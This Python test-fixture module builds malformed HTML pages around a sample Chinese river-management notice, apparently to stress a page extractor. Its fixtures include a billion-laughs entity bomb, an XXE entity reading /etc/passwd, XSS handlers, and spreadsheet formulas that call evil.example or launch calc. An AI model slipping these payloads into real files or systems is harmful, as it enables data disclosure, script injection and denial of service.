"""Pages with something wrong in them: each is a whole notice with one fault, or bytes that are no page at all."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass

TITLE = "关于开展河道采砂专项整治工作的通知"
MARK = "须于月底前将台账报送市水利局备案"
"""Stands once in each paragraph, so that paragraphs can be counted."""

PARAGRAPH = (
    "各镇人民政府、街道办事处，市直有关单位：为规范河道采砂管理，保障防洪安全和生态安全，镕园、䶮湖两处重点河段"
    f"由属地负责巡查，{MARK}，逾期未报的予以通报。"
)
ORDINALS = "一二三四五六七八"
WHOLE = len(ORDINALS)
"""Paragraphs of the notice."""

END = "特此通知，图表之后的末段。"

HTML = "text/html; charset=utf-8"


@dataclass(frozen=True, kw_only=True, slots=True)
class Written:
    """A page as it is served: its bytes, what the header says of them, and how much of the notice can be read."""

    name: str
    about: str
    body: Callable[[], bytes]
    content_type: str = HTML
    paragraphs: int = WHOLE
    """Of the notice, that a reader has to find."""
    kind: str = "document"
    """What the page is taken for; '' where more than one answer is right."""
    heavy: bool = False
    """Megabytes: for the long tests."""
    says: tuple[str, ...] = ()
    """Words besides, that have to be found."""


def notice(
    *,
    charset: str | None = "utf-8",
    head: str = "",
    before: str = "",
    inside: str = "",
    title: str = TITLE,
    more: str = "",
) -> str:
    """A sound notice: ``head`` comes into its head, ``before`` before its title, ``inside`` into the opening tag of its
    body, ``more`` after its last paragraph."""
    meta = f'<meta charset="{charset}">' if charset else ""
    paragraphs = "".join(f"<p>{ordinal}、{PARAGRAPH}</p>" for ordinal in ORDINALS)
    return (
        f'<!DOCTYPE html><html lang="zh"><head>{meta}<title>{title}</title>'
        f'<meta name="PubDate" content="2026-03-05 09:30"><meta name="ContentSource" content="市水利局">{head}</head>'
        f'<body><div class="nav"><a href="/">首页</a> <a href="/zwgk/">政务公开</a></div>{before}<h1>{title}</h1>'
        f'<div class="info">发布日期：2026-03-05 来源：市水利局 文号：临水发〔2026〕12号</div>'
        f'<div class="content"{inside}>{paragraphs}{more}</div>'
        '<div class="footer">主办：市水利局办公室</div></body></html>'
    )


def encoded(charset: str, codec: str | None = None, **parts: str) -> Callable[[], bytes]:
    return lambda: notice(charset=charset, **parts).encode(codec or charset)


def within(opening: str, count: int, closing: str) -> Callable[[], bytes]:
    """The notice's body within ``count`` elements."""
    return lambda: (
        notice()
        .replace('<div class="content">', opening * count + '<div class="content">')
        .replace('<div class="footer">', closing * count + '<div class="footer">')
        .encode()
    )


def added(more: Callable[[], str], **parts: str) -> Callable[[], bytes]:
    return lambda: notice(more=more(), **parts).encode()


def alone(opening: str, count: int, closing: str) -> Callable[[], bytes]:
    """One paragraph within ``count`` elements, and nothing else."""
    return lambda: (
        f"<html><head><title>深</title></head><body>{opening * count}<p>{PARAGRAPH}</p>{closing * count}".encode()
    )


def table(rows: int) -> str:
    cells = (("".join(f"<td>{row * column}</td>" for column in range(30))) for row in range(rows))
    return "<table>" + "".join(f"<tr>{row}</tr>" for row in cells) + f"</table><p>{END}</p>"


def late_meta() -> bytes:
    script = f"<script>{'/*x*/' * 1_800}</script>"
    return notice(charset=None).replace("<title>", f'{script}<meta charset="gbk"><title>').encode("gb18030")


def mixed() -> bytes:
    footer = "<p>主办单位：临江市人民政府办公室</p>".encode("gbk")
    return notice().encode().replace(b"</body>", footer + b"</body>")


def one_bad_byte() -> bytes:
    body = notice(more=f"<p>{END}</p>").encode()
    place = body.index(END.encode())
    return body[:place] + b"\xff" + body[place:]


def cut_character() -> bytes:
    body = notice(charset="gbk").encode("gb18030")
    return body[: body.index("特".encode("gbk")) if "特".encode("gbk") in body else len(body) - 200][:-1]


def big5() -> bytes:
    text = "各縣市政府：為加強河川管理，維護防洪安全，請於月底前將清冊函送水利署備查，逾期未報者將予公告。"
    paragraphs = "".join(f"<p>{ordinal}、{text}</p>" for ordinal in ORDINALS)
    return (
        '<html><head><meta charset="big5"><title>關於河川管理的通知</title></head><body><h1>關於河川管理的通知</h1>'
        f'<div class="content">{paragraphs}</div></body></html>'
    ).encode("big5")


LAUGHS = (
    '<!DOCTYPE html [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def xhtml() -> bytes:
    page = notice(more="<p>&x;</p>").removeprefix("<!DOCTYPE html>")
    return (OUTSIDE + page.replace("<html ", '<html xmlns="http://www.w3.org/1999/xhtml" ')).encode()


def noise(size: int, *, start: bytes = b"") -> Callable[[], bytes]:
    return lambda: start + random.Random(size).randbytes(size)


def api_answer() -> bytes:
    return json.dumps({"data": [{"title": TITLE, "content": PARAGRAPH}] * 10}, ensure_ascii=False).encode()


CHARSETS = (
    Written(name="cs-gbk-as-utf8", about="GBK, header and META say UTF-8", body=encoded("utf-8", "gb18030")),
    Written(
        name="cs-gbk-hdr-utf8-meta-gbk", about="GBK, header says UTF-8, META gb2312", body=encoded("gb2312", "gb18030")
    ),
    Written(name="cs-gbk-none", about="GBK, nothing said", body=encoded("", "gb18030"), content_type="text/html"),
    Written(
        name="cs-gbk-meta-utf8",
        about="GBK, META says UTF-8, header nothing",
        body=encoded("utf-8", "gb18030"),
        content_type="text/html",
    ),
    Written(
        name="cs-gb2312-ext",
        about="gb2312 said, characters of GBK and GB18030 used",
        body=encoded("gb2312", "gb18030", more="<p>镕喆䶮𠮷㐂</p>"),
        content_type="text/html; charset=gb2312",
        says=("镕喆䶮𠮷㐂",),
    ),
    Written(
        name="cs-utf8-as-gbk",
        about="UTF-8, header says GBK",
        body=encoded("utf-8"),
        content_type="text/html; charset=gbk",
    ),
    Written(
        name="cs-utf8-meta-gbk",
        about="UTF-8, META says gb2312, header nothing",
        body=encoded("gb2312", "utf-8"),
        content_type="text/html",
    ),
    Written(
        name="cs-utf8-bom-gbkhdr",
        about="UTF-8 with a mark, header and META say GBK",
        body=encoded("gbk", "utf-8-sig"),
        content_type="text/html; charset=gbk",
    ),
    Written(
        name="cs-latin1-hdr",
        about="UTF-8, header says ISO-8859-1",
        body=encoded("utf-8"),
        content_type="text/html; charset=ISO-8859-1",
    ),
    Written(
        name="cs-gbk-latin1-hdr",
        about="GBK, META says so, header says ISO-8859-1",
        body=encoded("gbk", "gb18030"),
        content_type="text/html; charset=ISO-8859-1",
    ),
    Written(
        name="cs-bogus",
        about="a charset that does not exist",
        body=encoded("xyz123", "utf-8"),
        content_type="text/html; charset=xyz123",
    ),
    Written(
        name="cs-bogus-utf",
        about="a charset of a database",
        body=encoded("utf8mb4", "utf-8"),
        content_type="text/html; charset=utf8mb4",
    ),
    Written(
        name="cs-utf16le", about="UTF-16 with a mark, header nothing", body=encoded("utf-16"), content_type="text/html"
    ),
    Written(
        name="cs-utf16be-unmarked",
        about="UTF-16 without a mark",
        body=encoded("utf-16", "utf-16-be"),
        content_type="text/html",
    ),
    Written(
        name="cs-big5",
        about="Big5, said so",
        body=big5,
        content_type="text/html; charset=big5",
        paragraphs=0,
        says=("請於月底前將清冊函送水利署備查",),
    ),
    Written(
        name="cs-big5-unsaid",
        about="Big5, header and META say UTF-8",
        body=lambda: big5().replace(b'"big5"', b'"utf-8"'),
        paragraphs=0,
        says=("請於月底前將清冊函送水利署備查",),
    ),
    Written(name="cs-mixed", about="UTF-8 with a footer in GBK", body=mixed),
    Written(name="cs-one-bad-byte", about="UTF-8 with one stray byte", body=one_bad_byte),
    Written(
        name="cs-gbk-truncated-char",
        paragraphs=7,
        about="GBK, cut within a character",
        body=cut_character,
        content_type="text/html; charset=gbk",
    ),
    Written(name="cs-meta-late", about="GBK, META behind 9 kB of script", body=late_meta, content_type="text/html"),
    Written(
        name="cs-xml-decl",
        about="GBK, only an XML declaration says so",
        body=lambda: ('<?xml version="1.0" encoding="GBK"?>' + notice(charset=None)).encode("gb18030"),
        content_type="text/html",
    ),
)

MARKUP = (
    Written(
        name="nest-div-1e3", about="10³ div around a paragraph", body=alone("<div>", 10**3, "</div>"), paragraphs=1
    ),
    Written(
        name="nest-div-1e4", about="10⁴ div around a paragraph", body=alone("<div>", 10**4, "</div>"), paragraphs=1
    ),
    Written(
        name="nest-div-1e5",
        about="10⁵ div around a paragraph",
        body=alone("<div>", 10**5, "</div>"),
        paragraphs=1,
        heavy=True,
    ),
    Written(
        name="nest-div-1e6",
        about="10⁶ div around a paragraph",
        body=alone("<div>", 10**6, "</div>"),
        paragraphs=1,
        heavy=True,
    ),
    Written(
        name="nest-span-1e5",
        about="10⁵ span within the notice",
        body=added(lambda: "<span>" * 10**5 + "深" + "</span>" * 10**5),
        heavy=True,
    ),
    Written(name="nest-div-200-text", about="the notice within 200 div", body=within("<div>", 200, "</div>")),
    Written(name="nest-div-300-text", about="the notice within 300 div", body=within("<div>", 300, "</div>")),
    Written(name="nest-div-3000-text", about="the notice within 3,000 div", body=within("<div>", 3_000, "</div>")),
    Written(
        name="nest-font-2000",
        about="2,000 font and b that nobody closes",
        body=added(lambda: "<font><b>" * 2_000 + END),
        says=(END,),
    ),
    Written(
        name="nest-table-300",
        about="the notice within 300 tables",
        body=within("<table><tr><td>", 300, "</td></tr></table>"),
    ),
    Written(
        name="nest-table-2000",
        about="the notice within 2,000 tables",
        body=within("<table><tr><td>", 2_000, "</td></tr></table>"),
    ),
    Written(
        name="nest-mixed-2000",
        about="2,000 lists, cells and paragraphs that close one another, or do not",
        body=within("<dd><section><li><p><td><b>", 2_000, "</p></li>"),
    ),
    Written(
        name="nest-ul-2000",
        about="2,000 lists in lists",
        body=lambda: (
            f"<html><head><title>{TITLE}</title></head><body>"
            f"{'<ul><li>项' * 2_000}{PARAGRAPH}{'</li></ul>' * 2_000}".encode()
        ),
        paragraphs=1,
    ),
    Written(
        name="attr-12m",
        about="an attribute of 12 MB before the notice",
        body=lambda: notice(inside=f' data-x="{"a" * 12_000_000}"').encode(),
        heavy=True,
    ),
    Written(
        name="attr-12m-brackets",
        about="an attribute of 12 MB with > in it",
        body=lambda: notice(inside=f' data-x="{"a>b<" * 3_000_000}"').encode(),
        heavy=True,
    ),
    Written(
        name="attr-data-uri",
        about="a picture of 15 MB within the page",
        body=added(lambda: f'<img src="data:image/png;base64,{"A" * 15_000_000}"><p>{END}</p>'),
        heavy=True,
        says=(END,),
    ),
    Written(
        name="text-12m",
        about="one text of 12 MB",
        body=added(lambda: f"<p>{'公告' * 2_000_000}</p><p>{END}</p>"),
        heavy=True,
        says=(END,),
    ),
    Written(
        name="script-30m",
        about="30 MB of script before the notice",
        body=lambda: notice(head=f"<script>var a='{'x' * 30_000_000}'</script>").encode(),
        heavy=True,
    ),
    Written(
        name="style-12m",
        about="12 MB of style before the notice",
        body=lambda: notice(head=f"<style>{'.a{color:red}' * 1_000_000}</style>").encode(),
        heavy=True,
    ),
    Written(
        name="comment-12m",
        about="a comment of 12 MB before the notice",
        body=lambda: notice(before=f"<!--{'x ' * 6_000_000}-->").encode(),
        heavy=True,
    ),
    Written(
        name="comment-unclosed",
        about="a comment before the notice that nobody closes",
        body=lambda: notice(before="<!-- ").encode(),
        paragraphs=0,
        kind="home-page",
    ),
    Written(
        name="script-unclosed",
        about="a script after the notice that nobody closes",
        body=lambda: notice(more="<script>var a = 1;").encode(),
    ),
    Written(
        name="title-unclosed",
        about="a title that nobody closes",
        body=lambda: notice().replace("</title>", "").encode(),
        paragraphs=0,
        kind="empty",
    ),
    Written(
        name="attrs-1e4",
        about="10⁴ attributes on one tag",
        body=lambda: notice(inside=" " + " ".join(f"a{n}=1" for n in range(10**4))).encode(),
    ),
    Written(
        name="attrs-1e5",
        about="10⁵ attributes on one tag",
        body=lambda: notice(inside=" " + " ".join(f"a{n}=1" for n in range(10**5))).encode(),
        heavy=True,
    ),
    Written(
        name="attrs-many-tags",
        about="1,900 attributes on each of 300 tags",
        body=added(lambda: ("<b " + " ".join(f"a{n}=1" for n in range(1_900)) + ">字</b>") * 300),
        heavy=True,
    ),
    Written(
        name="nul-bytes",
        about="NUL in the text",
        body=lambda: notice().replace("防洪", "防\0洪").replace("<p>二", "\0<p>二").encode(),
    ),
    Written(
        name="nul-early",
        about="NUL in the title and before the body",
        body=lambda: notice(before="\0", title=f"\0{TITLE}").encode(),
    ),
    Written(
        name="ctrl-chars",
        about="control characters in title and text",
        body=lambda: (
            notice(title=f"{TITLE[:4]}\x0b\x01\x1f{TITLE[4:]}").replace("防洪", "防\x0b\x0c\x1b\x02洪").encode()
        ),
    ),
    Written(
        name="charref-bad",
        about="references to NUL, surrogates, beyond Unicode",
        body=added(lambda: f"<p>&#0;&#xD800;&#x110000;&#99999999999;&#xFFFE;&#1;{END}</p>"),
        says=(END,),
    ),
    Written(
        name="entities-1e6",
        about="10⁶ references",
        body=added(lambda: "<p>" + "&amp;&nbsp;&#20013;" * 333_333 + "</p>"),
        heavy=True,
    ),
    Written(
        name="doctype-laughs",
        about="a billion laughs in the DOCTYPE",
        body=lambda: (LAUGHS + notice(more="<p>&j;</p>")).encode(),
    ),
    Written(
        name="xhtml-xxe", about="XHTML with an entity from a file", body=xhtml, content_type="application/xhtml+xml"
    ),
    Written(
        name="frameset",
        about="a frameset",
        body=lambda: b'<html><frameset cols="20%,80%"><frame src="/nav"><frame src="/ok"></frameset></html>',
        paragraphs=0,
        kind="needs-browser",
    ),
    Written(
        name="table-big",
        about="a table of 3,000 by 30 cells",
        body=added(lambda: table(3_000)),
        heavy=True,
        says=(END,),
    ),
    Written(
        name="table-huge",
        about="a table of 20,000 by 30 cells",
        body=added(lambda: table(20_000)),
        heavy=True,
        says=(END,),
    ),
    Written(
        name="paras-1e5",
        about="10⁵ paragraphs",
        body=added(lambda: "".join(f"<p>第{n}条 {PARAGRAPH[:60]}</p>" for n in range(10**5))),
        heavy=True,
        says=("第99999条",),
    ),
    Written(
        name="br-1e5",
        about="10⁵ br in one block",
        body=added(lambda: "<div>" + "".join(f"第{n}条 内容内容内容<br>" for n in range(10**5)) + "</div>"),
        heavy=True,
        says=("第99999条",),
    ),
    Written(
        name="pre-1e5",
        about="10⁵ lines of plain text in one pre",
        body=added(lambda: "<pre>" + "".join(f"第{n}条 内容内容内容\n" for n in range(10**5)) + "</pre>"),
        heavy=True,
        says=("第99999条",),
    ),
    Written(
        name="nav-in-nav",
        about="10³ menus in menus around 10⁴ paragraphs",
        body=added(lambda: '<div class="nav">' * 900 + f"<div>{PARAGRAPH}{END}</div>" * 10**4 + "</div>" * 900),
        heavy=True,
        says=(END,),
    ),
    Written(
        name="half-copies",
        about="10⁵ lines, each second one the same",
        body=added(
            lambda: "".join(
                f"<p>本行重复出现在本页各处且足够长以供辨认</p><p>第{n}行与他行不同，各有编号</p>"
                for n in range(10**5 // 2)
            )
        ),
        heavy=True,
        says=("第49999行",),
    ),
    Written(
        name="links-1e5",
        about="10⁵ links under the notice",
        body=added(
            lambda: (
                "<ul>"
                + "".join(f'<li><a href="/art/{n}.html">关于第{n}号文件的公告</a></li>' for n in range(10**5))
                + "</ul>"
            )
        ),
        heavy=True,
    ),
    Written(
        name="redos-digits", about="1 MB of digits", body=added(lambda: f"<p>{'20260101' * 125_000}</p>"), heavy=True
    ),
    Written(name="redos-space", about="1 MB of spaces", body=added(lambda: f"<p>{' ' * 1_000_000}x</p>"), heavy=True),
    Written(
        name="redos-dates", about="10⁵ dates", body=added(lambda: f"<p>{'2026年1月1日 ' * 100_000}</p>"), heavy=True
    ),
    Written(
        name="redos-brackets",
        about="2·10⁵ brackets and half document numbers",
        body=added(lambda: f"<p>{'〔' * 200_000}</p><p>{'国发〔2026' * 50_000}</p>"),
        heavy=True,
    ),
    Written(
        name="redos-url",
        about="200 kB of dots in an address",
        body=added(lambda: f"<p>http://{'a.' * 100_000}</p>"),
        heavy=True,
    ),
    Written(
        name="redos-script",
        about="10⁵ script that nobody closes",
        body=added(lambda: "<script>a" * 100_000),
        heavy=True,
    ),
    Written(name="redos-tags", about="4·10⁵ tags without an end", body=added(lambda: "<a " * 400_000), heavy=True),
    Written(
        name="redos-quote",
        about="10⁵ attributes whose quote is not closed",
        body=added(lambda: '<a href="x' * 100_000),
        heavy=True,
    ),
    Written(
        name="redos-han",
        about="1 MB of one Chinese character",
        body=added(lambda: f"<p>{'局' * 330_000}</p>"),
        heavy=True,
    ),
    Written(
        name="redos-han-lines",
        about="10⁴ lines of names without an end",
        body=added(lambda: f"<p>{'市水利局 ' * 60}</p>" * 2_000),
        heavy=True,
    ),
    Written(
        name="redos-colons", about="3·10⁵ colons", body=added(lambda: f"<p>{'发布日期：' * 60_000}</p>"), heavy=True
    ),
    Written(name="redos-commas", about="3·10⁵ commas", body=added(lambda: f"<p>{'，、；' * 100_000}</p>"), heavy=True),
    Written(name="title-5m", about="a title of 5 MB", body=lambda: notice(title="公告" * 800_000).encode(), heavy=True),
    Written(
        name="xss",
        about="script, event handlers, javascript: addresses, formulas",
        body=lambda: notice(
            title='=HYPERLINK("http://evil.example/"&amp;A1,"x")&lt;script&gt;alert(1)&lt;/script&gt;',
            more='<p><img src=x onerror=alert(1)>正文<a href="javascript:alert(1)">点</a></p>'
            "<svg onload=alert(1)></svg>"
            "<p>=cmd|' /C calc'!A0</p>",
        ).encode(),
    ),
)

FILES = (
    Written(
        name="pdf-as-html",
        about="a PDF that is called HTML",
        body=noise(200_000, start=b"%PDF-1.7\n"),
        paragraphs=0,
        kind="",
    ),
    Written(
        name="html-as-pdf",
        about="a notice that is called PDF",
        body=lambda: notice().encode(),
        content_type="application/pdf",
    ),
    Written(
        name="random-as-html",
        about="2 MB of noise that are called HTML",
        body=noise(2_000_000),
        paragraphs=0,
        kind="",
        heavy=True,
    ),
    Written(
        name="zip-as-html",
        about="a ZIP that is called HTML",
        body=noise(100_000, start=b"PK\x03\x04"),
        paragraphs=0,
        kind="",
    ),
    Written(
        name="doc-as-html",
        about="a Word file that is called HTML",
        body=noise(100_000, start=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        paragraphs=0,
        kind="",
    ),
    Written(
        name="jpeg-as-html",
        about="a picture that is called HTML",
        body=noise(100_000, start=b"\xff\xd8\xff\xe0"),
        paragraphs=0,
        kind="",
    ),
    Written(name="json-as-html", about="JSON that is called HTML", body=api_answer, paragraphs=0, kind=""),
    Written(
        name="html-as-octet",
        about="a notice that is called application/octet-stream",
        body=lambda: notice().encode(),
        content_type="application/octet-stream",
    ),
    Written(
        name="html-no-ctype", about="a notice that is called nothing", body=lambda: notice().encode(), content_type=""
    ),
    Written(
        name="html-bad-ctype", about="a notice that is called html", body=lambda: notice().encode(), content_type="html"
    ),
    Written(
        name="html-as-text",
        about="a notice that is called text/plain",
        body=lambda: notice().encode(),
        content_type="text/plain",
    ),
)
